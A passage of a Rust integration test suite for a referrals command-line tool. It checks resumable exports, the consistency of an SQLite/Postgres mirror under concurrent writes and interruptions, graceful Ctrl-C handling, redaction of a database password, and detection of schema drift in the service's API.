    assert_eq!(std::fs::read_to_string(&failed).unwrap(), expected);

    // NDJSON: one referral per line, money as the service wrote it.
    let ndjson = path("all.ndjson");
    server
        .run(&["export", "--out", &ndjson, "--status", "Closed"])
        .ok();
    let text = std::fs::read_to_string(&ndjson).unwrap();
    assert!(
        text.lines()
            .all(|line| line.contains("\"status\":\"Closed\""))
    );

    // A checkpoint of another export is not overwritten.
    server.mode.lists_before_401.store(1, Ordering::SeqCst);
    let other = path("other.csv");
    assert_eq!(server.run(&["export", "--out", &other]).code, Some(1));
    server.mode.lists_before_401.store(-1, Ordering::SeqCst);
    let out = server.run(&["export", "--out", &other, "--status", "New"]);
    assert_eq!(out.code, Some(1));
    assert!(
        out.stderr.contains("checkpoint of another export"),
        "{}",
        out.stderr
    );
    server
        .run(&["export", "--out", &other, "--status", "New", "--restart"])
        .ok();
}

/// Two tasks that change random referrals of the store while `writing` holds; each gives the
/// number of its changes.
fn writers(server: &Server, writing: &Arc<AtomicBool>) -> Vec<tokio::task::JoinHandle<u64>> {
    let ids: Vec<String> = server.store().into_keys().collect();
    (0..2u64)
        .map(|seed| {
            let (client, ids, writing) = (server.client.clone(), ids.clone(), writing.clone());
            server.runtime.spawn(async move {
                let mut rng = fastrand::Rng::with_seed(seed);
                let mut count = 0u64;
                while writing.load(Ordering::SeqCst) {
                    let id = &ids[rng.usize(..ids.len())];
                    let note = format!("note {seed}-{count}");
                    client
                        .update_unconditionally(id, Patch::new().set_details_notes(note))
                        .await
                        .unwrap();
                    count += 1;
                }
                count
            })
        })
        .collect()
}

/// The mirror's rows: id → eTag, each row's JSON checked to carry the same eTag.
fn mirrored(connection: &rusqlite::Connection) -> BTreeMap<String, String> {
    let mut statement = connection
        .prepare("SELECT id, eTag, json FROM referrals")
        .unwrap();
    statement
        .query_map([], |row| {
            let (id, tag, json): (String, String, String) = (row.get(0)?, row.get(1)?, row.get(2)?);
            let referral: serde_json::Value = serde_json::from_str(&json).unwrap();
            assert_eq!(referral["eTag"], tag.as_str());
            Ok((id, tag))
        })
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap()
}

#[test]
fn sync_mirrors_the_store_across_kills_and_writes() {
    let server = Server::start(3000);
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("mirror.sqlite");
    let db_arg = db.to_str().unwrap().to_owned();

    // Writers change referrals all along.
    let writing = Arc::new(AtomicBool::new(true));
    let writers = writers(&server, &writing);

    let mut rng = fastrand::Rng::with_seed(11);
    for _ in 0..8 {
        kill_after(
            &server,
            &["sync", "--db", &db_arg, "--skew", "0s"],
            Duration::from_millis(rng.u64(30..900)),
        );
    }
    writing.store(false, Ordering::SeqCst);
    let written: u64 = writers
        .into_iter()
        .map(|writer| server.runtime.block_on(writer).unwrap())
        .sum();
    assert!(written > 50, "{written} changes");
    // A run holds every referral that the service held when it began.
    server.run(&["sync", "--db", &db_arg, "--skew", "0s"]).ok();

    let connection = rusqlite::Connection::open(&db).unwrap();
    let mirror = mirrored(&connection);
    let store = server.store();
    let missing: Vec<_> = store
        .iter()
        .filter(|(id, tag)| mirror.get(*id) != Some(*tag))
        .collect();
    let state: String = connection
        .query_row("SELECT state FROM sync_state", [], |row| row.get(0))
        .unwrap();
    assert!(
        missing.is_empty() && mirror.len() == store.len(),
        "{} of {} referrals differ in the mirror ({} rows): {missing:?}; state {state}",
        missing.len(),
        store.len(),
        mirror.len()
    );

    // Another filter on the same database is refused, and changes nothing.
    let before = std::fs::read(&db).unwrap();
    let out = server.run(&["sync", "--db", &db_arg, "--status", "New"]);
    assert_eq!(out.code, Some(1));
    assert!(out.stderr.contains("another --db"), "{}", out.stderr);
    assert_eq!(std::fs::read(&db).unwrap(), before);
    // With --every too: no later run could sync it.
    let out = server.run(&["sync", "--db", &db_arg, "--status", "New", "--every", "1s"]);
    assert_eq!(out.code, Some(1), "{}", out.stderr);
    assert!(out.stderr.contains("another --db"), "{}", out.stderr);

    // A database of another program is refused, untouched.
    let foreign = dir.path().join("crm.sqlite");
    rusqlite::Connection::open(&foreign)
        .unwrap()
        .execute_batch("CREATE TABLE contacts (name TEXT)")
        .unwrap();
    let before = std::fs::read(&foreign).unwrap();
    let out = server.run(&["sync", "--db", foreign.to_str().unwrap()]);
    assert_eq!(out.code, Some(1));
    assert!(
        out.stderr
            .contains("crm.sqlite is a SQLite database of another program"),
        "{}",
        out.stderr
    );
    assert_eq!(std::fs::read(&foreign).unwrap(), before);
}

/// A first sync with the defaults that a new user has (8 parts at once, a skew of two
/// minutes) holds the referrals created just before it began, in the second of the service's
/// clock that its first answer shows.
#[test]
fn a_first_sync_with_the_defaults_holds_what_was_created_just_before() {
    let server = Server::start(1000);
    let dir = tempfile::tempdir().unwrap();
    let new: referrals_client::types::NewReferral = serde_json::from_str(
        &std::fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../../openapi/examples/ours-create-request.json"
        ))
        .unwrap(),
    )
    .unwrap();
    for run in 0..3 {
        let created = server.runtime.block_on(server.client.create(&new)).unwrap();
        let db = dir.path().join(format!("first-{run}.sqlite"));
        let out = server.run(&["sync", "--db", db.to_str().unwrap()]);
        assert_eq!(out.code, Some(0), "{}", out.stderr);
        let connection = rusqlite::Connection::open(&db).unwrap();
        let mirror = mirrored(&connection);
        let id = created.id.unwrap();
        assert!(
            mirror.contains_key(&id),
            "run {run}: {id}, created just before, is missing"
        );
        assert_eq!(mirror.len(), server.store().len(), "run {run}");
    }
}

/// `sync --every` goes on after failed runs (here the service refuses the token for a while)
/// and mirrors everything once the service answers again; Ctrl-C then ends it with status 0.
#[cfg(unix)]
#[test]
fn sync_every_survives_failed_runs() {
    let server = Server::start(300);
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("mirror.sqlite");
    server.mode.lists_before_401.store(0, Ordering::SeqCst);
    let observe = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap();
    let mut child = server
        .referrals()
        .args(["sync", "--db", db.to_str().unwrap(), "--every", "1s"])
        .args(["--observe", &observe.to_string()])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(2500));
    assert!(
        child.try_wait().unwrap().is_none(),
        "still running after failed runs"
    );
    // No run ended well within twice the interval: not ready, yet alive.
    let (status, text) = http_get(observe, "/readyz");
    assert_eq!(status, 503, "{text}");
    assert_eq!(http_get(observe, "/healthz").0, 200);
    server.mode.lists_before_401.store(-1, Ordering::SeqCst);
    let expected = i64::try_from(server.store().len()).unwrap();
    let count = || {
        let connection = rusqlite::Connection::open(&db).ok()?;
        connection
            .query_row("select count(*) from referrals", [], |row| {
                row.get::<_, i64>(0)
            })
            .ok()
    };
    let mut mirrored = None;
    for _ in 0..100 {
        mirrored = count();
        if mirrored == Some(expected) {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    std::thread::sleep(Duration::from_millis(300));
    let (ready, why) = http_get(observe, "/readyz");
    let (_, metrics) = http_get(observe, "/metrics");
    let (status, stderr) = interrupt_and_wait(&mut child);
    assert_eq!(mirrored, Some(expected), "{stderr}");
    assert_eq!(status, Some(0), "{stderr}");
    assert_eq!(ready, 200, "{why}");
    let rows = format!("referrals_mirror_rows {expected}");
    for expected in [
        "referrals_sync_runs_total{outcome=\"failed\"}",
        "referrals_sync_runs_total{outcome=\"ok\"}",
        &rows,
    ] {
        assert!(metrics.contains(expected), "{expected}: {metrics}");
    }
    assert!(stderr.contains("this run failed (1 in a row)"), "{stderr}");
    assert!(stderr.contains("401"), "{stderr}");
    assert!(stderr.contains("referrals changed"), "{stderr}");
}

/// The status and body of `GET path` at `addr` (HTTP/1.1, the connection closed after).
fn http_get(addr: std::net::SocketAddr, path: &str) -> (u16, String) {
    use std::io::Write as _;
    let mut stream = std::net::TcpStream::connect(addr).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let request = format!("GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n");
    stream.write_all(request.as_bytes()).unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    let status = answer
        .get(9..12)
        .and_then(|code| code.parse().ok())
        .unwrap_or(0);
    (status, answer)
}

/// Sends SIGINT, as Ctrl-C does, and waits (at most 30 s) for the end: its exit status and
/// what it wrote on standard error.
#[cfg(unix)]
fn interrupt_and_wait(child: &mut Child) -> (Option<i32>, String) {
    interrupt(child);
    let status = wait(child, Duration::from_secs(30));
    let mut stderr = String::new();
    if let Some(mut pipe) = child.stderr.take() {
        pipe.read_to_string(&mut stderr).unwrap();
    }
    (status, stderr)
}

/// Sends SIGINT, as Ctrl-C does.
#[cfg(unix)]
fn interrupt(child: &Child) {
    let status = Command::new("kill")
        .args(["-s", "INT", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(status.success());
}

#[cfg(unix)]
#[test]
fn ctrl_c_stops_sync_and_export_cleanly() {
    let server = Server::start(3000);
    let dir = tempfile::tempdir().unwrap();

    // `sync --every` runs until Ctrl-C, then ends with status 0 and a consistent mirror.
    let db = dir.path().join("mirror.sqlite");
    let mut child = server
        .referrals()
        .args([
            "sync",
            "--db",
            db.to_str().unwrap(),
            "--every",
            "1s",
            "--skew",
            "0s",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let start = Instant::now();
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    let mut line = String::new();
    // The first run's summary says the mirror is complete.
    while !line.contains("in the mirror") {
        line.clear();
        assert!(stderr.read_line(&mut line).unwrap() > 0, "sync ended early");
        assert!(start.elapsed() < Duration::from_secs(60));
    }
    interrupt(&child);
    assert_eq!(wait(&mut child, Duration::from_secs(30)), Some(0));
    let mut rest = String::new();
    stderr.read_to_string(&mut rest).unwrap();
    assert!(rest.contains("stopping after the page in hand"), "{rest}");
    let rows: i64 = rusqlite::Connection::open(&db)
        .unwrap()
        .query_row("SELECT count(*) FROM referrals", [], |row| row.get(0))
        .unwrap();
    assert_eq!(rows as usize, server.store().len());

    // An export stops after the page in hand, then goes on when run again.
    let out = dir.path().join("all.ndjson");
    let out = out.to_str().unwrap();
    let mut child = server
        .referrals()
        .args(["export", "--out", out])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Once the partial file exists, Ctrl-C is handled by the export.
    let partial = format!("{out}.partial");
    while !Path::new(&partial).exists() && child.try_wait().unwrap().is_none() {
        assert!(start.elapsed() < Duration::from_secs(60));
        std::thread::sleep(Duration::from_millis(5));
    }
    std::thread::sleep(Duration::from_millis(50));
    let (status, said) = interrupt_and_wait(&mut child);
    assert_eq!(status, Some(0), "{said}");
    server.run(&["export", "--out", out]).ok();
    let lines = std::fs::read_to_string(out).unwrap().lines().count();
    assert_eq!(lines, server.store().len());
}

#[test]
fn sync_into_postgres_and_a_password_is_never_printed() {
    let Some(postgres) = referrals_testkit::postgres::Server::start() else {
        return;
    };
    let server = Server::start(300);
    let url = postgres
        .url()
        .replace("postgres@", "postgres:hunter2secret@");
    let out = server.run(&["sync", "--db", &url, "--skew", "0s"]);
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let count = server.store().len();
    assert!(
        out.stderr.contains(&format!("{count} in the mirror")),
        "{}",
        out.stderr
    );
    assert!(!out.stderr.contains("hunter2secret"), "{}", out.stderr);
    // A server that does not answer: exit 1, the server named without its password.
    let gone = format!(
        "postgres://postgres:hunter2secret@127.0.0.1:{}/x",
        postgres.port() ^ 1
    );
    let out = server.run(&["sync", "--db", &gone]);
    assert_eq!(out.code, Some(1), "{}", out.stderr);
    assert!(
        !out.stderr.contains("hunter2secret") && out.stderr.contains("cannot connect"),
        "{}",
        out.stderr
    );
}

#[test]
fn drift_finds_each_kind_and_a_faithful_service_has_none() {
    let faithful = Server::start(250);
    let out = faithful.run(&["drift", "--format", "json"]);
    assert_eq!(out.code, Some(0), "{}{}", out.stdout, out.stderr);
    let report: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(report["drifted"], false, "{report}");
    assert_eq!(report["pages"], 3);

    let drifted = Server::start_with(Config {
        seed_count: 250,
        drift: true,
        ..referrals_testkit::config()
    });
    let out = drifted.run(&["drift", "--format", "json", "--pages", "2"]);
    assert_eq!(out.code, Some(4), "{}{}", out.stdout, out.stderr);
    let report: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    let first = |kind: &str| report[kind][0].clone();
    assert_eq!(
        first("undeclared_members")["path"],
        "value[]/sandboxUndeclared"
    );
    assert_eq!(first("undeclared_members")["count"], 2, "one a page");
    assert_eq!(first("unknown_values")["value"], "SandboxUnknown");
    assert_eq!(first("wrong_types")["path"], "value[]/name");
    assert_eq!(first("wrong_types")["found"], "number");
    assert_eq!(first("undocumented_statuses")["status"], 203);
    assert_eq!(first("undocumented_headers")["header"], "x-sandbox-drift");
    // On a terminal's stead, a table names the same.
    let out = drifted.run(&["drift", "--format", "table", "--pages", "1"]);
    assert_eq!(out.code, Some(4));
    assert!(
        out.stdout.contains("unknown value") && out.stdout.contains("SandboxUnknown"),
        "{}",
        out.stdout
    );
}
